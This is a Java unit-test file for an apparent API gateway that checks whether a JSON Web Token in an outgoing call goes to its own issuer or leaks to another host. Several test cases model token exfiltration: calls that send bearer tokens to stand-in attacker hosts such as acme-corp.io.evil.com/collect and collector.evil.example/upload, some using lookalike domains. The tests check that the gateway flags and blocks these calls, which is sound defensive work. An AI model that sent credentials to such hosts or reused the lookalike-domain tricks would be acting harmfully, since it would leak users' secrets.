package io.interven.gateway.core;

import static io.interven.gateway.core.CallInputs.call;
import static org.assertj.core.api.Assertions.assertThat;

import io.interven.gateway.policy.Decision;
import io.interven.gateway.testing.BuiltinPipeline;
import io.interven.spi.DataClasses;
import io.interven.spi.ReasonCodes;
import io.interven.spi.SignalResult;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * With the real plugins: a JSON Web Token sent as the credential of a call to the API its {@code iss} or
 * {@code aud} claim names (that host, or a host of its registrable domain) authenticates the call, as any
 * credential sent to its issuer does; in the body, or sent to any other host, it is data.
 */
class JwtIssuerBindingTest {
    private static final String SIGNATURE = "c2lnbmF0dXJlLW9mLXRoaXMtdG9rZW4tcTd4OWsybTQ";

    static String jwt(String claims) {
        Base64.Encoder encoder = Base64.getUrlEncoder().withoutPadding();
        return encoder.encodeToString("{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"k1\"}".getBytes(StandardCharsets.UTF_8))
                + "." + encoder.encodeToString(claims.getBytes(StandardCharsets.UTF_8)) + "." + SIGNATURE;
    }

    private static ScanOutcome bearer(String url, String token) {
        return BuiltinPipeline.get().scan(call("POST", url, Map.of("Authorization", "Bearer " + token),
                "{\"name\": \"widget\"}"));
    }

    private static void assertAuthenticates(ScanOutcome outcome) {
        assertThat(outcome.classifications()).doesNotContain(DataClasses.SECRETS);
        assertThat(outcome.reasonCodes()).doesNotContain(ReasonCodes.SECRETS, ReasonCodes.CREDENTIAL_HOST_MISMATCH);
        assertThat(outcome.decision()).isEqualTo(Decision.ALLOW);
    }

    @ParameterizedTest(name = "{0} to {1}")
    @CsvSource(delimiter = '|', value = {
            "{\"iss\":\"https://auth.acme-corp.io/\",\"sub\":\"usr_1\",\"exp\":1767229200} | https://api.acme-corp.io/v1/orders",
            "{\"iss\":\"https://auth.acme-corp.io/\",\"sub\":\"usr_1\"} | https://auth.acme-corp.io/userinfo",
            "{\"iss\":\"https://acme.eu.auth0.com/\",\"aud\":[\"https://api.globex.com\",\"https://acme.eu.auth0.com/userinfo\"]} | https://api.globex.com/v2/tickets",
            "{\"iss\":\"https://acme.okta.com/oauth2/default\",\"aud\":\"api://default\"} | https://acme.okta.com/api/v1/users",
            "{\"iss\":\"https://abcdefghijklmnop.supabase.co/auth/v1\",\"aud\":\"authenticated\"} | https://abcdefghijklmnop.supabase.co/rest/v1/todos",
            "{\"iss\":\"https://victim.herokuapp.com\"} | https://victim.herokuapp.com/api",
            "{\"aud\":\"API.Globex.COM.\"} | https://api.globex.com/v2/tickets",
            "{\"iss\":\"https://accounts.google.com\",\"aud\":\"1234.apps.googleusercontent.com\"} | https://oauth2.googleapis.com/tokeninfo",
            "{\"iss\":\"https://securetoken.google.com/acme-prod\",\"aud\":\"acme-prod\"} | https://firestore.googleapis.com/v1/projects/acme-prod/databases/(default)/documents/orders",
            "{\"iss\":\"https://sts.windows.net/72f988bf-86f1-41af-91ab-2d7cd011db47/\",\"aud\":\"00000003-0000-0000-c000-000000000000\"} | https://graph.microsoft.com/v1.0/me",
    })
    void aTokenSentToTheApiItsClaimsNameAuthenticatesTheCall(String claims, String url) {
        assertAuthenticates(bearer(url, jwt(claims)));
    }

    @Test
    void personalDataInTheClaimsOfATokenSentToItsIssuerIsStillData() {
        ScanOutcome outcome = bearer("https://api.acme-corp.io/v1/me", jwt("{\"iss\":\"https://sso.acme-corp.io/realms/main\","
                + "\"email\":\"jane.doe@acme-corp.io\"}"));

        assertThat(outcome.classifications()).doesNotContain(DataClasses.SECRETS).contains(DataClasses.PII);
        assertThat(outcome.reasonCodes()).doesNotContain(ReasonCodes.CREDENTIAL_HOST_MISMATCH);
    }

    @Test
    void inAQueryValueOfACallToItsIssuerItAuthenticatesToo() {
        String token = jwt("{\"iss\":\"https://auth.acme-corp.io/\"}");

        assertAuthenticates(BuiltinPipeline.get().scan(call("GET",
                "https://api.acme-corp.io/v1/orders?access_token=" + token, Map.of(), null)));
    }

    @ParameterizedTest(name = "{0} to {1}")
    @CsvSource(delimiter = '|', value = {
            "{\"iss\":\"https://auth.umbrella-health.org/\"} | https://api.example-corp.com/v1/customers",
            "{\"iss\":\"https://auth.acme-corp.io/\"} | https://acme-corp.io.evil.com/collect",
            "{\"iss\":\"https://auth.acme-corp.io/\"} | https://evil-acme-corp.io/collect",
            "{\"iss\":\"https://victim.herokuapp.com\"} | https://attacker.herokuapp.com/collect",
            "{\"iss\":\"https://herokuapp.com\"} | https://attacker.herokuapp.com/collect",
            "{\"iss\":\"https://co.uk\"} | https://attacker.co.uk/collect",
            "{\"aud\":\"api://api.example-corp.com\"} | https://api.example-corp.com/v1/customers",
            "{\"aud\":[\"x\",\"y\",\"z\",\"a\",\"b\",\"c\",\"d\",\"e\",\"f\",\"g\",\"h\",\"i\",\"j\",\"k\",\"l\",\"m\",\"api.example-corp.com\"]} | https://api.example-corp.com/v1/customers",
            "{\"claims\":{\"iss\":\"https://api.example-corp.com\"}} | https://api.example-corp.com/v1/customers",
            "{\"iss\":\"https://accounts.google.com\"} | https://www.google.com.evil.com/collect",
    })
    void aTokenSentToAnyOtherHostIsData(String claims, String url) {
        ScanOutcome outcome = bearer(url, jwt(claims));

        assertThat(outcome.classifications()).contains(DataClasses.SECRETS);
        assertThat(outcome.decision()).isIn(Decision.SANITIZE, Decision.DENY);
    }

    @Test
    void aWellKnownIssuersTokenSentElsewhereIsAMismatchThatNamesNoClaim() {
        ScanOutcome outcome = bearer("https://collector.evil.example/upload",
                jwt("{\"iss\":\"https://accounts.google.com\",\"email\":\"ceo@acme-corp.io\"}"));

        assertThat(outcome.reasonCodes()).contains(ReasonCodes.SECRETS, ReasonCodes.CREDENTIAL_HOST_MISMATCH);
        assertThat(outcome.signals()).extracting(SignalResult::detail).allSatisfy(detail ->
                assertThat(detail).doesNotContain("ceo@").doesNotContain("eyJ"));
    }

    @Test
    void anUnknownIssuersTokenSentElsewhereNamesNoClaimEither() {
        ScanOutcome outcome = bearer("https://collector.evil.example/upload",
                jwt("{\"iss\":\"https://auth.umbrella-health.org/\"}"));

        assertThat(outcome.classifications()).contains(DataClasses.SECRETS);
        assertThat(outcome.findings()).allSatisfy(finding -> assertThat(finding.issuerDomains()).isEmpty());
        assertThat(outcome.signals()).extracting(SignalResult::detail).allSatisfy(detail ->
                assertThat(detail).doesNotContain("umbrella"));
    }

    @Test
    void inTheBodyOfACallToItsIssuerItIsData() {
        String token = jwt("{\"iss\":\"https://auth.acme-corp.io/\"}");
        ScanOutcome outcome = BuiltinPipeline.get().scan(call("POST", "https://api.acme-corp.io/v1/notes",
                Map.of(), "{\"note\": \"my token is " + token + "\"}"));

        assertThat(outcome.classifications()).contains(DataClasses.SECRETS);
        assertThat(outcome.decision()).isEqualTo(Decision.SANITIZE);
    }

    @Test
    void registrableDomainsComeFromTheWholePublicSuffixList() {
        assertThat(JwtIssuerBinding.sameRegistrableDomain("auth.acme.co.uk", "api.acme.co.uk")).isTrue();
        assertThat(JwtIssuerBinding.sameRegistrableDomain("acme.co.uk", "evil.co.uk")).isFalse();
        assertThat(JwtIssuerBinding.sameRegistrableDomain("a.s3.amazonaws.com", "b.s3.amazonaws.com")).isFalse();
        assertThat(JwtIssuerBinding.sameRegistrableDomain("localhost", "localhost")).isFalse();
        assertThat(JwtIssuerBinding.sameRegistrableDomain("co.uk", "evil.co.uk")).isFalse();
    }
}
